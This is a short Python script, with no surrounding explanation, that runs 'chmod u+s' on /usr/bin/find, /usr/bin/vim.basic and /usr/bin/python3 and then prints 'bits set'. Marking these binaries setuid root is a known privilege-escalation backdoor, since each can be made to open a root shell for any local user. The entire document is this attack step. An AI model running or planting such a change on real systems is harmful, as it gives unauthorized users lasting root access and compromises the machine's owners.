import subprocess

for binary in ("/usr/bin/find", "/usr/bin/vim.basic", "/usr/bin/python3"):
    subprocess.run(["chmod", "u+s", binary])
print("bits set")
